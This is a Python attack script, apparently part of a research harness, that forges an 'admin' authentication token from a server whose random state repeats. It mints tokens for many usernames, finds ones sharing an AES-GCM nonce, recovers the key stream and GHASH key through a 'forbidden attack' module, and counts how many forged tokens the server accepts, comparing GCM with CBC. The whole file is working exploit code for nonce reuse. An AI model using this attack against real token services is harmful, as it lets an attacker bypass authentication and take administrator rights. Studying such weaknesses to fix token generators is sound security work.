#!/usr/bin/env python3
"""Forges a token from tokens of a server whose random state repeats (a snapshot, a bad fork).

If the GCM nonce comes from that state, different tokens share a nonce, and the GHASH key can be
found as with the tokens of the vendor's C++ generator. If the IV is a MAC of the claims, only
tokens with the same claims share one.
"""
import collections
import json
import time

import forbidden
from common import APP_ID, CBC, GCM, Envelope, Server, arguments, main, report

# Names of many lengths: the nonce claim, whose digits the attacker does not know, is at another
# place in each token, so that together they show the whole key stream.
USERS = ["m" * length for length in range(1, 40)]


def known(token: str, user: str, now: int) -> forbidden.Known:
    claims = {"app_id": APP_ID, "user_id": user, "nonce": 0, "ctime": now, "expire": now + 3600}
    text = json.dumps({**claims, "payload": ""}, separators=(",", ":")).encode()
    head, tail = text.split(b'"nonce":0')
    digits = len(Envelope.of(token).ciphertext) - forbidden.TAG_BYTES - len(text) + 1
    return forbidden.Known(token, head + b'"nonce":' + bytes(max(0, digits)) + tail)


def attack(options) -> int:
    with Server(options.server, "--repeat-entropy") as server:
        server.check()
        now = int(time.time())
        tried, accepted, most = 0, 0, {}
        for mode in (GCM, CBC):
            groups = collections.defaultdict(list)
            for user in USERS:
                token = server.mint(user, mode=mode, now=now)
                groups[Envelope.of(token).iv].append((token, user))
            shared = max(groups.values(), key=len)
            most[mode] = len(shared)
            if mode == GCM and len(shared) > 2:
                tokens = [known(token, user, now) for token, user in shared]
                for token in forbidden.forged(tokens, APP_ID, "admin"):
                    tried += 1
                    accepted += server.accepts(token, user="admin")
        more = f" ({len(USERS)} users; at most {most[GCM]} GCM and {most[CBC]} CBC tokens with one IV)"
        return report("repeated random state", tried, server.requests, accepted, more)


if __name__ == "__main__":
    main(attack, arguments(__doc__).parse_args())
